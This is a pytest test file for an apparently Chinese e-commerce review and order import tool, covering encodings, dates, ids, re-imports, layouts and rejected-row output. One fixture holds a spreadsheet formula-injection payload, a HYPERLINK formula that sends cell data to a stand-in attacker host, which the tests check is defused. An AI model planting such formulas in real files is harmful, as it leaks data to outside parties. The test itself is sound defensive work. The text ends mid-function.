"""reviewops.intake.ingest end to end: files → store, on SQLite and PostgreSQL.

reliability.md I-01 (encodings), I-03 (long ids), I-04 (widths/whitespace), I-05 (dates),
I-06 (re-exports and 追评 versions), I-07 (masked buyers), --skip-bad-rows and its
formula-safe ``.rejected.csv``, and header layouts (every built-in one, width variants,
unknown layouts, ``--map`` + ``--save-layout``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
import sqlalchemy as sa

from payloads.tables import xlsx_bytes

from reviewops import ImportRejected, UnknownLayout, UnsupportedFile, import_file, import_paths
from reviewops.intake import layouts
from reviewops.core import store as st
from reviewops.cli import main
from reviewops.core.columns import fields_of
from reviewops.core.errors import ConfigError

UTC = dt.timezone.utc
SH = dt.timezone(dt.timedelta(hours=8))


# ----------------------------------------------------------------------------- helpers
def write_csv(path, rows, encoding="utf-8", delim=",", bom=b""):
    buf = io.StringIO()
    csv.writer(buf, delimiter=delim, lineterminator="\r\n").writerows(rows)
    path.write_bytes(bom + buf.getvalue().encode(encoding))
    return path


def write_xlsx(path, sheets):
    path.write_bytes(xlsx_bytes(sheets))
    return path


def counts(store):
    return store.counts()


def select(store, table, *cols, where=None, order_by=None):
    q = sa.select(*[table.c[c] for c in cols])
    if where is not None:
        q = q.where(where)
    q = q.order_by(*(table.c[c] for c in (order_by or cols[:1])))
    with store.read() as conn:
        return [tuple(r) for r in conn.execute(q)]


def shop_of(store, name):
    with store.read() as conn:
        return conn.execute(sa.select(st.shops.c.id).where(st.shops.c.name == name)).scalar_one()


REVIEW_HEADER = ["订单编号", "买家昵称", "评价结果", "评价内容", "评价时间", "宝贝标题", "追评内容", "追评时间", "解释内容"]


def review_rows(extra_text=True):
    """A small Taobao review export; ``extra_text`` adds characters that GBK cannot encode."""
    hard = "𠮷野家 😀 € • 䶮" if extra_text else "普通文字"
    return [
        REVIEW_HEADER,
        ["2841234567890123456", "张三", "差评", f"杯子漏水，{hard}", "2024-03-05 14:22:00", "保温杯 500ml", "", "", ""],
        ["2841234567890123457", "tb_李四", "好评", "很好，“引号”和,逗号\n第二行", "2024/3/6 9:01", "保温杯", "追评：还行",
         "2024-03-09 10:00:00", "感谢"],
        ["2841234567890123458", "王**", "中评", "一般般", "2024年3月7日 08:00:00", "保温杯", "", "", ""],
    ]


ORDER_HEADER = ["订单编号", "买家会员名", "买家应付货款", "买家应付邮费", "买家实际支付金额", "订单状态", "收货人姓名",
                "联系手机", "收货地址", "订单创建时间", "订单付款时间", "宝贝标题", "宝贝总数量"]


def order_rows(extra_text=True):
    hard = "𠮷" if extra_text else "吉"
    return [
        ORDER_HEADER,
        ["2841234567890123456", "张三", "￥1,234.50", "0.00", "1234.50", "交易成功", "张三", "+86 138-0013-8000",
         f"浙江省杭州市西湖区{hard}祥路1号", "2024-03-01 10:00:00", "2024-03-01 10:05:00", "保温杯", "2"],
        ["2841234567890123457", "李四", "28.9元", "(3.00)", "25.90", "买家已付款，等待卖家发货", "李四", "13900139000",
         "北京市朝阳区建国路8号", "2024-03-02 11:00:00", "", "水杯", "1"],
    ]


# ---------------------------------------------------------------------- I-01 encodings
ENCODINGS = [
    # (name, codec, bom, recorded encoding, may hold characters outside GBK)
    ("gbk", "gbk", b"", "gb18030", False),
    ("gb18030", "gb18030", b"", "gb18030", True),
    ("utf-8", "utf-8", b"", "utf-8", True),
    ("utf-8-sig", "utf-8", b"\xef\xbb\xbf", "utf-8-sig", True),
    ("utf-16le", "utf-16-le", b"\xff\xfe", "utf-16", True),
    ("utf-16be", "utf-16-be", b"\xfe\xff", "utf-16", True),
]

REVIEW_COLS = ("review_key", "order_id", "buyer_nick_masked", "rating_raw", "rating_class", "content", "created_at",
               "append_content", "append_created_at", "seller_reply", "product_title", "is_default_review", "version")
ORDER_COLS = ("order_id", "buyer_nick_masked", "goods_fen", "shipping_fee_fen", "paid_fen", "status_raw",
              "receiver_name_masked", "receiver_name_hash", "receiver_phone_masked", "receiver_phone_hash",
              "receiver_address_masked", "province", "city", "created_at", "paid_at", "titles", "item_count")


@pytest.mark.parametrize(("kind", "make_rows", "table", "cols"), [
    ("reviews", review_rows, st.reviews, REVIEW_COLS),
    ("orders", order_rows, st.orders, ORDER_COLS),
])
def test_i01_encoding_matrix_gives_identical_rows(store, tmp_path, kind, make_rows, table, cols):
    got = {}
    for name, codec, bom, recorded, wide in ENCODINGS:
        rows = make_rows(extra_text=wide)
        delim = "\t" if name.startswith("utf-16") else ","  # Excel "Unicode text" is tab-separated
        path = write_csv(tmp_path / f"{kind}-{name}.csv", rows, codec, delim, bom)
        (res,) = import_file(store, path, shop=name)
        assert (res.kind, res.platform, res.encoding, res.rows_new) == (kind, "taobao", recorded, len(rows) - 1)
        with store.read() as conn:
            enc = conn.execute(sa.select(st.import_batches.c.encoding).where(
                st.import_batches.c.id == res.batch_id)).scalar_one()
        assert enc == recorded
        got[name] = select(store, table, *cols, where=table.c.shop_id == shop_of(store, name))
    wide = {n: rows for n, rows in got.items() if n != "gbk"}
    first = next(iter(wide.values()))
    assert all(rows == first for rows in wide.values())
    assert len(first) == len(make_rows()) - 1
    # the GBK file differs only where GBK cannot hold a character
    plain = select(store, table, *cols, where=table.c.shop_id == shop_of(store, "gbk"))
    assert [[c for c in r if not (isinstance(c, str) and ("吉" in c or "普通" in c or "𠮷" in c))] for r in plain] == \
           [[c for c in r if not (isinstance(c, str) and ("吉" in c or "普通" in c or "𠮷" in c))] for r in first]
    if kind == "reviews":
        assert first[0][5] == "杯子漏水，𠮷野家 😀 € • 䶮"
        assert first[1][5] == "很好，“引号”和,逗号\n第二行"


def test_i01_short_gbk_file_is_not_read_as_korean(store, tmp_path):
    path = tmp_path / "short.csv"
    path.write_bytes("评价结果,评价内容,评价时间\n差评,差评,2024-03-05 10:00:00\n".encode("gbk"))
    (res,) = import_file(store, path)
    assert res.encoding == "gb18030" and res.rows_new == 1
    assert select(store, st.reviews, "content", "rating_class") == [("差评", "negative")]


def test_platform_and_kind_given_accept_a_file_without_signature_headers(store, tmp_path):
    path = tmp_path / "min.csv"
    path.write_bytes("评价内容,评价时间\n太差了,2024-03-05 10:00:00\n".encode("gbk"))
    with pytest.raises(UnknownLayout) as e:
        import_file(store, path)
    assert "评价内容" in str(e.value) and "--platform" in str(e.value)
    (res,) = import_file(store, path, platform="taobao", kind="reviews")
    assert res.layout == "taobao_reviews" and res.rows_new == 1


# ---------------------------------------------------------------------------- I-03 long ids
def test_i03_long_ids_round_trip_and_mangled_ones_are_rejected_by_row(store, tmp_path):
    ids = ["2841234567890123", "28412345678901234", "284123456789012345", "2841234567890123456",
           "28412345678901234567", "", "2.84123E+18", "2841234567890120000", '="2841234567890123457"',
           "'2841234567890123458", "\t2841234567890123459"]
    rows = [["订单编号", "买家会员名", "买家应付货款", "买家实际支付金额", "宝贝标题", "宝贝总数量", "订单创建时间"]]
    rows += [[i, f"buyer{n}", "10.00", "10.00", "杯子", "1", "2024-03-05 10:00:00"] for n, i in enumerate(ids)]
    path = write_csv(tmp_path / "ExportOrderList.csv", rows)
    before = counts(store)
    with pytest.raises(ImportRejected) as e:
        import_file(store, path)
    assert counts(store) == before
    probs = sorted((p.row, p.column, p.code) for p in e.value.problems)
    assert probs == [(7, "订单编号", "required_empty"), (8, "订单编号", "bad_id"), (9, "订单编号", "bad_id")]
    for p in e.value.problems:
        assert p.file == "ExportOrderList.csv" and p.reason_zh and p.reason_en
    assert not (tmp_path / "ExportOrderList.rejected.csv").exists()

    (res,) = import_file(store, path, skip_bad_rows=True)
    assert (res.rows_new, res.rows_rejected, res.status) == (8, 3, "partial")
    stored = [r[0] for r in select(store, st.orders, "order_id")]
    assert stored == sorted(["2841234567890123", "28412345678901234", "284123456789012345", "2841234567890123456",
                             "28412345678901234567", "2841234567890123457", "2841234567890123458",
                             "2841234567890123459"])


# --------------------------------------------------------------------- I-04 widths/whitespace
def test_i04_full_width_and_invisible_characters_share_the_half_width_key(store, tmp_path):
    half = order_rows()
    wide = [list(r) for r in half]
    wide[1][0] = "２８４１２３４５６７８９０１２３４５６"
    wide[2][0] = "\u200b2841234567890123457\u00a0\t"
    wide[1][7] = "＋８６ １３８ ００１３ ８０００"
    wide[2][7] = "13900139000\u3000"
    write_csv(tmp_path / "wide.csv", wide)
    write_csv(tmp_path / "half.csv", half)
    (a,) = import_file(store, tmp_path / "wide.csv")
    assert a.rows_new == 2
    stored = select(store, st.orders, *ORDER_COLS)
    assert [r[0] for r in stored] == ["2841234567890123456", "2841234567890123457"]
    (b,) = import_file(store, tmp_path / "half.csv")
    assert (b.rows_new, b.rows_updated, b.rows_unchanged) == (0, 0, 2)
    assert select(store, st.orders, *ORDER_COLS) == stored
    assert stored[0][8] == "138****8000" and stored[1][8] == "139****9000"
    from reviewops.core.privacy import keyed_hash
    import pandas as pd
    assert stored[0][9] == keyed_hash(pd.Series(["13800138000"]), store.pii_key).iloc[0]


# --------------------------------------------------------------------------- I-05 dates
DATES = [
    ("2024-03-05 14:22:00", dt.datetime(2024, 3, 5, 14, 22)),
    ("2024-03-05 14:22", dt.datetime(2024, 3, 5, 14, 22)),
    ("2024/3/5 14:22", dt.datetime(2024, 3, 5, 14, 22)),
    ("2024/03/05 14:22:07", dt.datetime(2024, 3, 5, 14, 22, 7)),
    ("2024年3月7日", dt.datetime(2024, 3, 7)),
    ("2024年3月7日 08:30:00", dt.datetime(2024, 3, 7, 8, 30)),
    ("2024.03.08", dt.datetime(2024, 3, 8)),
    ("2024-03-08T23:59:59", dt.datetime(2024, 3, 8, 23, 59, 59)),
    ("45361.5", dt.datetime(2024, 3, 10, 12, 0)),
    ('="2024-03-11 00:00:01"', dt.datetime(2024, 3, 11, 0, 0, 1)),
]


def test_i05_every_known_date_format_is_stored_in_utc(store, tmp_path):
    rows = [["订单编号", "评价结果", "评价内容", "评价时间"]]
    rows += [[f"28412345678901234{i:02d}", "差评", f"第{i}条", raw] for i, (raw, _) in enumerate(DATES)]
    (res,) = import_file(store, write_csv(tmp_path / "dates.csv", rows))
    assert res.rows_new == len(DATES)
    assert any("Excel" in n for n in res.notes)  # slash dates: re-saved by Excel
    got = dict(select(store, st.reviews, "order_id", "created_at"))
    for i, (raw, local) in enumerate(DATES):
        value = got[f"28412345678901234{i:02d}"]
        assert value == local.replace(tzinfo=SH), raw
        assert value.utcoffset() == dt.timedelta(0)


@pytest.mark.parametrize("bad", ["03/09/2024", "2024-02-30 10:00:00", "昨天 10:00", "2024-03-05T14:22:00Z"])
def test_i05_ambiguous_or_unknown_dates_name_the_row_never_empty(store, tmp_path, bad):
    rows = [["订单编号", "评价结果", "评价内容", "评价时间", "追评内容", "追评时间"],
            ["2841234567890123401", "差评", "a", "2024-03-05 14:22:00", "", ""],
            ["2841234567890123402", "差评", "b", "2024-03-05 14:22:00", "还是坏", bad]]
    path = write_csv(tmp_path / "d.csv", rows)
    with pytest.raises(ImportRejected) as e:
        import_file(store, path)
    (p,) = e.value.problems
    assert (p.row, p.column, p.value, p.code) == (3, "追评时间", bad, "bad_datetime")
    assert counts(store)["reviews"] == 0
    import_file(store, path, skip_bad_rows=True)
    assert select(store, st.reviews, "order_id", "append_created_at") == [("2841234567890123401", None)]


# ------------------------------------------------------------------- I-06 re-exports
def test_i06_reimport_adds_nothing_and_a_follow_up_makes_a_version(store, tmp_path):
    day1 = [REVIEW_HEADER,
            ["2841234567890123456", "张三", "差评", "不好用", "2024-03-05 14:22:00", "杯子", "", "", ""],
            ["2841234567890123457", "李四", "好评", "很好", "2024-03-06 09:01:00", "杯子", "", "", ""]]
    day2 = [REVIEW_HEADER,
            ["2841234567890123457", "李四", "好评", "很好", "2024-03-06 09:01:00", "杯子", "", "", ""],
            ["2841234567890123456", "张三", "差评", "不好用", "2024-03-05 14:22:00", "杯子", "用了一周又坏了",
             "2024-03-08 10:00:00", ""],
            ["2841234567890123458", "王五", "中评", "一般", "2024-03-07 09:01:00", "杯子", "", "", ""]]
    f1 = write_csv(tmp_path / "day1.csv", day1, "gbk")
    f2 = write_csv(tmp_path / "day2.csv", day2, "utf-8", bom=b"\xef\xbb\xbf")
    import_file(store, f1)
    (again,) = import_file(store, f1)
    assert (again.rows_new, again.rows_updated, again.rows_unchanged) == (0, 0, 2)
    assert counts(store)["reviews"] == 2 and counts(store)["review_versions"] == 2
    ids_before = dict(select(store, st.reviews, "order_id", "id"))

    (nxt,) = import_file(store, f2)
    assert (nxt.rows_new, nxt.rows_updated, nxt.rows_unchanged) == (1, 1, 1)
    assert counts(store)["reviews"] == 3  # == unique natural keys
    rows = {r[0]: r[1:] for r in select(store, st.reviews, "order_id", "id", "version", "append_content")}
    assert rows["2841234567890123456"] == (ids_before["2841234567890123456"], 2, "用了一周又坏了")
    assert rows["2841234567890123457"] == (ids_before["2841234567890123457"], 1, None)
    pk = ids_before["2841234567890123456"]
    assert select(store, st.review_versions, "version", "content", "append_content",
                  where=st.review_versions.c.review_pk == pk, order_by=["version"]) == \
        [(1, "不好用", None), (2, "不好用", "用了一周又坏了")]

    snapshot = (counts(store), select(store, st.reviews, *REVIEW_COLS))
    for f in (f2, f1, f2):  # the same file again, and the older export after the newer: nothing new
        (res,) = import_file(store, f)
        assert res.rows_new == 0 and res.rows_updated == 0
        now = counts(store)
        assert {k: v for k, v in now.items() if k != "import_batches"} == \
               {k: v for k, v in snapshot[0].items() if k != "import_batches"}
        assert select(store, st.reviews, *REVIEW_COLS) == snapshot[1]


def test_i06_chat_exports_overlap_without_duplicates(store, tmp_path):
    header = ["客户名", "消息序号", "发送时间", "发送内容", "发送账号", "账号类型", "订单编号"]
    base = [["tb_buyer", "1", "2024-03-05 10:00:00", "你好", "tb_buyer", "买家", "2841234567890123456"],
            ["tb_buyer", "2", "2024-03-05 10:00:30", "在的亲", "店小二:a", "客服", ""],
            ["tb_buyer", "3", "2024-03-05 10:01:00", "杯子漏水", "tb_buyer", "买家", ""]]
    more = [*base, ["tb_buyer", "", "2024-03-05 10:02:00", "[图片]", "tb_buyer", "买家", ""]]
    import_file(store, write_csv(tmp_path / "c1.csv", [header, *base]))
    (res,) = import_file(store, write_csv(tmp_path / "c2.csv", [header, *more]))
    assert (res.rows_new, res.rows_unchanged) == (1, 3)
    assert counts(store)["chat_messages"] == 4
    assert {r[0] for r in select(store, st.chat_messages, "sender_role")} == {"buyer", "agent"}


def test_orders_reimport_and_overlap_count_unique_keys(store, tmp_path):
    a = order_rows()
    b = [a[0], a[2], ["2841234567890123499", "王五", "5", "0", "5", "交易成功", "王五", "13700137000",
                      "上海市浦东新区x路", "2024-03-03 09:00:00", "", "杯盖", "1"]]
    import_file(store, write_csv(tmp_path / "a.csv", a))
    import_file(store, write_csv(tmp_path / "b.csv", b))
    import_file(store, write_csv(tmp_path / "a.csv", a))
    assert counts(store)["orders"] == 3
    money = select(store, st.orders, "order_id", "goods_fen", "shipping_fee_fen", "paid_fen", "item_count")
    assert money == [("2841234567890123456", 123450, 0, 123450, 2), ("2841234567890123457", 2890, -300, 2590, 1),
                     ("2841234567890123499", 500, 0, 500, 1)]


# --------------------------------------------------------------------------- I-07 masked buyers
def test_i07_reviews_by_buyers_sharing_a_mask_stay_apart(store, tmp_path):
    rows = [["订单编号", "买家昵称", "评价结果", "评价内容", "评价时间"],
            ["2841234567890123401", "张**", "差评", "漏水", "2024-03-05 10:00:00"],
            ["2841234567890123402", "张**", "差评", "漏水", "2024-03-05 10:00:00"],
            ["", "t***8", "差评", "没订单号", "2024-03-05 11:00:00"],
            ["", "t***8", "差评", "没订单号", "2024-03-05 11:00:00"]]
    (res,) = import_file(store, write_csv(tmp_path / "m.csv", rows))
    got = select(store, st.reviews, "order_id", "buyer_nick_masked", "customer_id", order_by=["id"])
    assert [g[1] for g in got][:2] == ["张**", "张**"]
    assert all(g[2] is None for g in got)
    assert counts(store)["customers"] == 0
    # two masked, order-less rows at the same time are indistinguishable: one review, never a merge of two buyers
    assert res.rows_new == len(got) == 3


# ------------------------------------------------------------------- --skip-bad-rows
def test_skip_bad_rows_writes_valid_rows_and_a_formula_safe_rejected_csv(store, tmp_path):
    rows = [REVIEW_HEADER,
            ["2841234567890123401", "张三", "差评", "正常一条", "2024-03-05 10:00:00", "杯子", "", "", ""],
            ["2841234567890123402", "李四", "差评", '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
             "03/09/2024", "杯子", "", "", ""],
            ["2.84123E+18", "王五", "极差", "@SUM(1,1)", "2024-03-05 10:00:00", "杯子", "", "", ""],
            ["2841234567890123404", "赵六", "好评", "+正常", "2024-03-05 12:00:00", "杯子", "", "", ""]]
    path = write_csv(tmp_path / "reviews.csv", rows)
    with pytest.raises(ImportRejected) as e:
        import_file(store, path)
    assert {p.row for p in e.value.problems} == {3, 4}
    assert counts(store)["reviews"] == 0 and counts(store)["import_batches"] == 0
    assert not list(tmp_path.glob("*.rejected.csv"))

    (res,) = import_file(store, path, skip_bad_rows=True)
    assert (res.status, res.rows_new, res.rows_rejected) == ("partial", 2, 2)
    assert sorted(r[0] for r in select(store, st.reviews, "content")) == ["+正常", "正常一条"]
    rejected = tmp_path / "reviews.rejected.csv"
    assert res.rejected_file == str(rejected)
    raw = rejected.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    out = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert out[0][:2] == ["行号 row", "原因 reason"] and out[0][2:] == REVIEW_HEADER
    assert [r[0] for r in out[1:]] == ["3", "4"]
    assert "评价时间" in out[1][1] and "歧义" in out[1][1] and "ambiguous" in out[1][1]
    assert out[1][2 + 3] == "'" + rows[2][3]          # =HYPERLINK(...) is defused
    assert out[2][2 + 3] == "'@SUM(1,1)"
    assert "订单编号" in out[2][1] and "评价结果" in out[2][1]
    for line in out[1:]:
        assert not any(c and c[0] in "=+-@" for c in line)
    with store.read() as conn:
        batch = conn.execute(sa.select(st.import_batches.c.status, st.import_batches.c.rows_rejected)).one()
    assert tuple(batch) == ("partial", 2)


def test_skip_bad_rows_does_not_skip_a_broken_file(store, tmp_path):
    """A stray quote swallows the rest of the file: that is not one bad row, the whole file is refused."""
    body = "\r\n".join(",".join(r) for r in review_rows(False)[:2])
    body += '\r\n2841234567890123499,张三,差评,"引号没关,2024-03-05 14:22:00,杯子,,,\r\n'
    body += "\r\n".join(f"28412345678901235{i:02d},张三,差评,第{i}条,2024-03-05 14:22:00,杯子,,," for i in range(30))
    path = tmp_path / "broken.csv"
    path.write_bytes(body.encode("gbk"))
    for skip in (False, True):
        with pytest.raises(ImportRejected) as e:
            import_file(store, path, skip_bad_rows=skip)
        assert any(p.code == "malformed_file" for p in e.value.problems)
        assert counts(store)["reviews"] == 0


def test_a_bad_sheet_rejects_the_whole_workbook(store, tmp_path):
    good = review_rows()
    bad = [REVIEW_HEADER, ["2841234567890123499", "张三", "差评", "x", "2024-99-99", "杯子", "", "", ""]]
    path = write_xlsx(tmp_path / "two.xlsx", {"第一页": good, "第二页": bad})
    before = counts(store)
    with pytest.raises(ImportRejected) as e:
        import_file(store, path)
    (p,) = e.value.problems
    assert p.file == "two.xlsx[第二页]" and p.row == 2
    assert counts(store) == before


def test_import_paths_reports_each_file_and_goes_on(store, tmp_path):
    good = write_csv(tmp_path / "good.csv", review_rows())
    bad = write_csv(tmp_path / "bad.csv", [REVIEW_HEADER, ["1", "a", "差评", "x", "yesterday", "", "", "", ""]])
    junk = tmp_path / "junk.csv"
    junk.write_bytes(b"\x00\x01\x02" * 50)
    results = import_paths(store, [bad, junk, good, tmp_path / "missing.csv"])
    assert [r.status for r in results] == ["rejected", "failed", "done", "failed"]
    assert results[0].problems and "yesterday" in results[0].error
    assert counts(store)["reviews"] == 3


# --------------------------------------------------------------------------- layouts
ORDER_IDS = {"douyin": "6917926768823643751", "pdd": "240305-123456789012345", "taobao": "2841234567890123456",
             "jd": "284123456789", "kuaishou": "2412345678901234", None: "2841234567890123456"}
VALUES = {"money": ("12.50", 1250), "datetime": ("2024-03-05 14:22:00", dt.datetime(2024, 3, 5, 6, 22, tzinfo=UTC)),
          "int": ("2", 2), "score": ("4", 4), "rating": ("差评", "差评"), "phone": ("13800138000", "138****8000"),
          "name": ("张三", "张*"), "nick": ("tb_buyer_1", "t***1"), "address": ("浙江省杭州市西湖区文三路1号", "浙江省 杭州市 ****"),
          "bool": ("是", True), "text": ("文本", "文本"), "hours": ("48小时", 48), "regions": ("新疆、西藏", '["西藏", "新疆"]'),
          "tags": ("7天无理由", '["7天无理由"]'), "flag": ("是", True)}
KIND_TABLE = {"orders": st.orders, "reviews": st.reviews, "refunds": st.refunds, "chats": st.chat_messages,
              "shipments": st.shipments, "listings": st.listings}


def layout_file(lay, tmp_path, variant=lambda h: h):
    fields = fields_of(lay.kind)
    header, row = [], []
    for fname, aliases in lay.columns.items():
        header.append(variant(aliases[0]))
        if fname == "order_id":
            row.append(ORDER_IDS[lay.platform])
        elif fname == "shop_name":
            row.append("版式测试店")
        elif fields[fname].type == "id":
            row.append("SF1234567890" if "tracking" in fname else f"X{len(row):04d}")
        else:
            row.append(VALUES[fields[fname].type][0])
    return write_csv(tmp_path / f"{lay.name}.csv", [header, row])


@pytest.mark.parametrize("lay", layouts.BUILTIN, ids=lambda lay: lay.name)
def test_every_builtin_layout_is_recognised_from_its_headers(store, tmp_path, lay):
    if lay.kind == "shipments":  # a tracking file finds its shop through the order
        import_file(store, layout_file(layouts.builtin("taobao_orders_legacy"), tmp_path))
    path = layout_file(lay, tmp_path)
    (res,) = import_file(store, path)
    assert (res.layout, res.kind, res.platform) == (lay.name, lay.kind, lay.platform)
    assert (res.rows_read, res.rows_rejected, res.status) == (1, 0, "done")
    assert counts(store)[KIND_TABLE[lay.kind].name] == 1
    with store.read() as conn:
        row = conn.execute(sa.select(KIND_TABLE[lay.kind])).mappings().one()
        extra = [dict(r) for r in conn.execute(sa.select(st.order_lines)).mappings()] if lay.kind == "orders" else []
    if "order_id" in lay.columns:
        assert row["order_id"] == ORDER_IDS[lay.platform]
    if lay.kind == "reviews":
        assert row["created_at"] == VALUES["datetime"][1]
    if lay.kind == "chats":
        assert row["sent_at"] == VALUES["datetime"][1] and row["content"] == "文本"
    money = {c: v for r in (row, *extra) for c, v in r.items() if c.endswith("_fen") and v is not None}
    assert all(v == 1250 for v in money.values()), money
    if any(fields_of(lay.kind)[f].type == "money" for f in lay.columns):
        assert money


@pytest.mark.parametrize("header", ["商品总价（元）", "商品总价(元)", " 商品总价 ( 元 ) ", "商品总价（元）\t"])
def test_full_and_half_width_headers_match_the_same_layout(store, tmp_path, header):
    rows = [["订单号", header, "用户实付金额(元)", "商品数量（件）", "拼单成功时间", "样式ID", "手机"],
            ["240305-123456789012345", "1,234.50", "1234.5", "2", "2024-03-05 14:22:00", "S1", "13800138000"]]
    (res,) = import_file(store, write_csv(tmp_path / "pdd.csv", rows))
    assert (res.layout, res.platform) == ("pdd_orders", "pdd")
    assert select(store, st.orders, "order_id", "goods_fen", "paid_fen", "item_count", "receiver_phone_masked") == \
        [("240305-123456789012345", 123450, 123450, 2, "138****8000")]


def test_unknown_layout_lists_the_headers_and_writes_nothing(store, tmp_path):
    path = write_csv(tmp_path / "weird.csv", [["单号", "顾客留言", "留言日期", "星级"],
                                               ["2841234567890123456", "太差了", "2024-03-05", "1"]])
    before = counts(store)
    with pytest.raises(UnknownLayout) as e:
        import_file(store, path)
    assert e.value.headers == ["单号", "顾客留言", "留言日期", "星级"]
    msg = str(e.value)
    assert "weird.csv" in msg and "顾客留言" in msg and "--map" in msg and "--save-layout" in msg
    assert counts(store) == before


def test_duplicated_header_is_a_problem(store, tmp_path):
    rows = [["订单编号", "评价结果", "评价内容", "评价时间", "评价时间"],
            ["2841234567890123456", "差评", "x", "2024-03-05 10:00:00", "2024-03-06 10:00:00"]]
    with pytest.raises(ImportRejected) as e:
        import_file(store, write_csv(tmp_path / "dup.csv", rows))
    assert [p.code for p in e.value.problems] == ["duplicate_header"]
    assert e.value.problems[0].row == 1 and e.value.problems[0].column == "评价时间"


def test_map_and_save_layout_through_the_cli(store, tmp_path, capsys):
    header = ["单号", "顾客留言", "留言日期", "星级"]
    first = write_csv(tmp_path / "weird1.csv", [header, ["2841234567890123456", "太差了", "2024-03-05 10:00", "1"]])
    second = write_csv(tmp_path / "weird2.csv", [header, ["2841234567890123457", "还行", "2024-03-06 10:00", "3"],
                                                 ["2841234567890123458", "好", "2024-03-07 10:00", "5"]])
    db = store.url
    assert main(["import", str(first), "--db", db]) == 2
    assert "顾客留言" in capsys.readouterr().out
    mapping = "单号=order_id,顾客留言=content,留言日期=created_at,星级=rating_raw"
    code = main(["import", str(first), "--db", db, "--platform", "jd", "--kind", "reviews", "--map", mapping,
                 "--save-layout", "我的京东评价", "--json"])
    out = json.loads(capsys.readouterr().out)
    assert code == 0 and out["results"][0]["layout"] == "我的京东评价" and out["results"][0]["rows_new"] == 1
    code = main(["import", str(second), "--db", db, "--json"])
    out = json.loads(capsys.readouterr().out)
    assert code == 0
    assert (out["results"][0]["layout"], out["results"][0]["platform"], out["results"][0]["kind"]) == \
        ("我的京东评价", "jd", "reviews")
    assert out["results"][0]["rows_new"] == 2
    assert select(store, st.reviews, "order_id", "rating_class") == [
        ("2841234567890123456", "negative"), ("2841234567890123457", "neutral"), ("2841234567890123458", "positive")]
    assert main(["layouts", "--db", db, "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert any(r["name"] == "我的京东评价" and not r["builtin"] for r in listed)


def test_map_needs_kind_and_known_fields(store, tmp_path):
    path = write_csv(tmp_path / "w.csv", [["单号", "留言日期"], ["1", "2024-03-05"]])
    with pytest.raises(ConfigError, match="--kind"):
        import_file(store, path, mapping={"单号": "order_id"})
    with pytest.raises(ConfigError, match="no_such_field"):
        import_file(store, path, kind="reviews", mapping={"单号": "no_such_field", "留言日期": "created_at"})
    with pytest.raises(ConfigError, match="created_at"):
        import_file(store, path, kind="reviews", mapping={"单号": "order_id"})


def test_unreadable_file_is_unsupported_and_names_it(store, tmp_path):
    p = tmp_path / "x.xlsx"
    p.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    with pytest.raises(UnsupportedFile, match="x.xlsx"):
        import_file(store, p)


def test_data_rows_above_the_header_are_not_dropped_as_banners(store, tmp_path):
    """Lines sorted in Excel put the header in the middle: the rows above it must not vanish (found by I-02)."""
    rows = review_rows(False)
    shuffled = [rows[1], rows[2], rows[0], rows[3]]
    with pytest.raises(ImportRejected) as e:
        import_file(store, write_csv(tmp_path / "sorted.csv", shuffled))
    (p,) = e.value.problems
    assert (p.row, p.code) == (1, "rows_above_header") and "3" in p.reason_zh and "header" in p.reason_en
    with pytest.raises(ImportRejected):
        import_file(store, write_csv(tmp_path / "sorted.csv", shuffled), skip_bad_rows=True)
    assert counts(store)["reviews"] == 0
    banner = [["淘宝评价导出"], ["导出时间：2024-03-08 10:00:00", "操作人：客服A"], *rows]
    (res,) = import_file(store, write_csv(tmp_path / "banner.csv", banner))
    assert res.header_row == 3 and res.rows_new == 3


def test_i08_a_10k_column_header_is_refused_with_the_limit(store, tmp_path):
    from reviewops.intake.readers import MAX_COLUMNS

    header = ["订单编号", "评价结果", "评价内容", "评价时间", *[f"列{i}" for i in range(10_000)]]
    row = ["2841234567890123456", "差评", "x", "2024-03-05 10:00:00", *[""] * 10_000]
    with pytest.raises(ImportRejected) as e:
        import_file(store, write_csv(tmp_path / "wide.csv", [header, row]))
    (p,) = e.value.problems
    assert p.code == "too_many_columns" and str(MAX_COLUMNS) in p.reason_en and "10004" in p.reason_zh
    assert counts(store)["reviews"] == 0


def test_i08_a_review_text_at_the_limit_is_kept_whole_and_a_32767_character_one_refused(store, tmp_path):
    from reviewops.core.columns import REVIEW_TEXT_MAX_CHARS

    text = ("差评😀𠮷" * 2_000)[:REVIEW_TEXT_MAX_CHARS]
    rows = [["订单编号", "评价结果", "评价内容", "评价时间"], ["2841234567890123456", "差评", text, "2024-03-05 10:00:00"]]
    import_file(store, write_csv(tmp_path / "long.csv", rows, "gb18030"))
    path = write_xlsx(tmp_path / "long.xlsx", {"s": rows})
    import_file(store, path, shop="xlsx")
    assert [r[0] for r in select(store, st.reviews, "content")] == [text, text]
    # Excel's largest cell: no platform allows such a review, so it is refused with the limit stated (I-08)
    rows[1][2] = ("差评😀" * 20_000)[:32_767]
    with pytest.raises(ImportRejected) as e:
        import_file(store, write_csv(tmp_path / "longer.csv", rows, "gb18030"), shop="other")
    (p,) = e.value.problems
    assert (p.row, p.column, p.code) == (2, "评价内容", "too_long")
    assert "32767" in p.reason_zh and str(REVIEW_TEXT_MAX_CHARS) in p.reason_en
    assert p.value.startswith("差评😀") and len(p.value) < 250 and "32767" in p.value  # cut for display
    assert counts(store)["reviews"] == 2


@pytest.mark.parametrize("lay", layouts.BUILTIN, ids=lambda lay: lay.name)
def test_every_builtin_layout_imports_with_only_its_required_and_signature_headers(store, tmp_path, lay):
    """Exports that lack the optional columns still import (a tracking file without 物流状态 crashed)."""
    sig = {layouts.norm_header(h) for h in lay.signature}
    keep = set(lay.required) | {f for f, aliases in lay.columns.items()
                                if any(layouts.norm_header(a) in sig for a in aliases)}
    if lay.kind == "reviews":
        keep.add("content")
    if lay.kind == "shipments":
        keep.add("order_id")  # how a platform-less tracking file finds its shop
    minimal = layouts.Layout(name=lay.name, platform=lay.platform, kind=lay.kind, required=lay.required,
                             signature=lay.signature, columns={f: a for f, a in lay.columns.items() if f in keep})
    if lay.kind == "shipments":
        import_file(store, layout_file(layouts.builtin("taobao_orders_legacy"), tmp_path))
    (res,) = import_file(store, layout_file(minimal, tmp_path))
    assert (res.layout, res.rows_new, res.status) == (lay.name, 1, "done")
    c = counts(store)
    if lay.kind == "orders":  # a file of order lines without order times fills order_lines only
